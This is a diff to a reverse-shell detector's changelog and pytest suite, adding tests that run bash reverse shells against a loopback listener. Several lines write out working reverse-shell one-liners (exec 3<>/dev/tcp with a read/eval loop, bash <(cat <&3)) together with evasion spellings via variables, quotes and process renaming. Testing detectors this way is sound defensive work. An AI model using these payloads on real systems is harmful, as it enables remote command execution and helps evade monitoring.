@@ -5,12 +5,15 @@ sampler and engine. Everything on loopback.
 Found and fixed:
 - A shell with no script on a connection was a reverse shell only while its command line read
   `sh`, `sh -i` or `sh -i -l`: `bash --norc -i`, `bash -o vi -i`, `bash -i -l -s`, `exec -a
-  kworker bash -i` and `busybox sh -i` were not (remote-reverse-shell: the shell by its file or
-  its first word, options only however spelled, a multi-call binary's shell applet).
+  kworker bash -i`, `busybox sh -i` and `bash <(cat <&3)` (its script another process's output)
+  were not (remote-reverse-shell: the shell by its file or its first word, options only however
+  spelled, a multi-call binary's shell applet, a script on /dev/fd/N).
 - `bash -c 'd=/dev; exec 3<>$d/tcp/HOST/PORT; while read -r -u 3 c; do eval "$c" >&3 2>&3;
-  done'`: the text names no /dev/tcp, so the system shell's script was judged on the programs
-  it starts (none). A shell's script is now read with the network redirections a variable
-  spells, expanded (engine, commands.network_redirects).
+  done'` (or `"/dev/t"cp`): the text names no /dev/tcp, so the system shell's script was
+  judged on the programs it starts (none). A shell's script is now read with the network
+  redirections a variable or quotes spell, as the shell reads them (engine,
+  commands.network_redirects); with its descriptors in a variable (`>&$f 2>&$f`), what it
+  reads run as commands (`eval "$c"`) is the wiring (remote-reverse-shell).
 - A file in /usr/bin named as a text tool (a copy written there, or bind-mounted over the
   system's tac in a mount namespace of its own) was judged on its name only: a miner's options
   on its command line counted for nothing. The sampler marks a program file in the system's
@@ -115,6 +118,22 @@ def test_a_shell_with_no_script_on_a_connection_is_a_reverse_shell(listener, arg
         assert "remote-reverse-shell" in _ids(detections)
 
 
+def test_a_shell_reading_its_script_from_another_process_on_a_connection_is_a_reverse_shell(
+        listener):
+    """`bash <(cat <&3) >&3 2>&3`: the script operand is a pipe (/dev/fd/N), fed from the
+    connection, and the shell's output goes back on it."""
+    script = (f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}; "
+              "exec bash <(cat <&3) >&3 2>&3")
+    with _group(["bash", "-c", script], stdin=subprocess.DEVNULL) as started:
+        listener.accept_one()
+        shell, detections = _wait_for(
+            ProcessSampler(), started.pid,
+            lambda p: p.pid == started.pid and p.cmdline[1:2] != ["-c"]
+            and any(s.stream for s in p.sockets))
+        assert shell.cmdline[1].startswith("/dev/fd/")
+        assert "remote-reverse-shell" in _ids(detections)
+
+
 def test_a_shell_running_a_script_file_with_its_output_on_a_connection_is_left_alone(
         listener, tmp_path):
     """A job that ships its report to the course's collector: bash runs a file, its stdout
@@ -132,11 +151,21 @@ def test_a_shell_running_a_script_file_with_its_output_on_a_connection_is_left_a
 
 # ---------------------------------------------------------------- /dev/tcp spelled by a variable
 
-def test_a_shell_script_that_spells_dev_tcp_with_a_variable_is_a_reverse_shell(listener):
+SPELLED_DEVICES = [
+    pytest.param('d=/dev; exec 3<>$d/tcp/127.0.0.1/{port}; '
+                 'while read -r -u 3 c; do eval "$c" >&3 2>&3; done', id="variable"),
+    pytest.param('exec 3<>"/dev/t"cp/127.0.0.1/{port}; '
+                 'while read -r -u 3 c; do eval "$c" >&3 2>&3; done', id="quotes"),
+    pytest.param('d=/dev; exec 3<>$d/tcp/127.0.0.1/{port}; f=3; '
+                 'while read -r -u $f c; do eval "$c" >&$f 2>&$f; done', id="fd-in-a-variable"),
+]
+
+
+@pytest.mark.parametrize("template", SPELLED_DEVICES)
+def test_a_shell_script_that_spells_dev_tcp_is_a_reverse_shell(listener, template):
     """It reads each command on fd 3 (`read -u 3`: its stdin stays the pipe), runs it with
     its output on the connection; the text names no /dev/tcp."""
-    script = (f"d=/dev; exec 3<>$d/tcp/127.0.0.1/{listener.port}; "
-              'while read -r -u 3 c; do eval "$c" >&3 2>&3; done')
+    script = template.format(port=listener.port)
     with _group(["bash", "-c", script], stdin=subprocess.PIPE,
                 stdout=subprocess.DEVNULL) as bash:
         listener.accept_one()  # greets "hello": the shell runs it (no such command) and waits
